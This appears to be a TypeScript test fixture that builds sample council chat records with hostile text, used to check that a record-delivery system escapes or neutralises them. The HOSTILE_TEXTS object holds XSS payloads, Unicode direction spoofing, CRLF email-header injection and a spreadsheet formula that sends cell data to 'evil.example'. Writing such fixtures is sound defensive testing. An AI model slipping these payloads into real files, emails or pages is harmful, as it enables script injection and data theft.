/** Records with hostile text for the delivery tests. */
import type { AuditEvent, CouncilRecord, ObservedMessage } from '../../../utils/types';
import { canonicalSha256 } from '../../../utils/delivery/text';
import { recordHash } from '../../../utils/record-hash';

export const HOSTILE_TEXTS = {
  script:
    '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:x" onclick=y>z</a>',
  rlo: 'Invoice for \u202Egnp.exe\u202C please pay',
  zeroWidth: 'zero\u200Bwidth\uFEFFjoin\u2060ed \u2066iso\u2069',
  crlf: 'line one\r\nBcc: evil@x\r\n\r\n--boundary\nline three\rline four',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
  plus: '+44 7700 900123',
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  tab: '\tindented',
  cr: '\rstarts with CR',
  emoji: 'Approved ✅ 👨‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽',
  nonAscii: 'Café – naïve – Łódź – 日本語 – مرحبا بكم – “quotes” ‘single’',
  quotes: 'He said "yes", then, "no"; ok',
  long: 'A long message. '.repeat(3125), // 50,000 characters
} as const;

let n = 0;

export function makeRecord(text: string, over: Partial<CouncilRecord> = {}): CouncilRecord {
  n += 1;
  const id = over.id ?? `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
  const message: ObservedMessage = {
    id: `3EB0${String(n).padStart(8, '0')}`,
    direction: n % 3 === 0 ? 'out' : 'in',
    sender: n % 2 ? 'Cllr Jane Smith' : '+44 7700 900456',
    senderPhone: n % 2 ? undefined : '447700900456',
    sentAt: `2026-11-${String(1 + (n % 28)).padStart(2, '0')}T${String(n % 24).padStart(2, '0')}:05`,
    forwarded: n % 4 === 0,
    edited: n % 5 === 0,
    deleted: false,
    ...(over.message ?? {}),
    text,
  };
  if (message.senderPhone === undefined) delete message.senderPhone;
  const base: Omit<CouncilRecord, 'sha256'> = {
    id,
    chatKey: 'group:planning',
    messageId: message.id,
    chat: { title: 'Planning <Committee> \u202Edrowssap', isGroup: true },
    message,
    categories: ['planning', 'decision'],
    note: 'Filed for the <b>minutes</b>',
    capturedAt: '2026-11-22T10:15:00.000Z',
    capturedBy: 'Cllr Jane Smith (Chair)',
    method: 'web-button',
    policyId: 'wherstead-pc',
    policyVersion: '2025-05',
    retainUntil: '2032-03-31',
    ...over,
  };
  base.message = message;
  const { sha256: _ignored, ...rest } = base as CouncilRecord;
  return { ...rest, sha256: over.sha256 ?? recordHash(rest) };
}

export function hostileRecords(): CouncilRecord[] {
  return Object.values(HOSTILE_TEXTS).map((t) => makeRecord(t));
}

export function eventsFor(records: CouncilRecord[]): AuditEvent[] {
  let prev = '';
  return records.map((r, i) => {
    const e: Omit<AuditEvent, 'hash'> = {
      seq: i + 1,
      type: 'record.captured',
      at: r.capturedAt,
      actor: r.capturedBy,
      subject: r.id,
      details: { sha256: r.sha256 },
      prevHash: prev,
    };
    const hash = canonicalSha256(e);
    prev = hash;
    return { ...e, hash };
  });
}

/** Bytes that look like a PNG (signature + noise). */
export function fakePng(size: number, seed = 1): Uint8Array {
  const out = new Uint8Array(size);
  out.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  let x = seed * 2654435761;
  for (let i = 8; i < size; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

/** Flips bits of one byte in place (for tamper tests). */
export function flipByte(bytes: Uint8Array | undefined, index: number, mask = 1): void {
  if (!bytes || index >= bytes.length) throw new Error('no such byte');
  bytes[index] = (bytes[index] ?? 0) ^ mask;
}
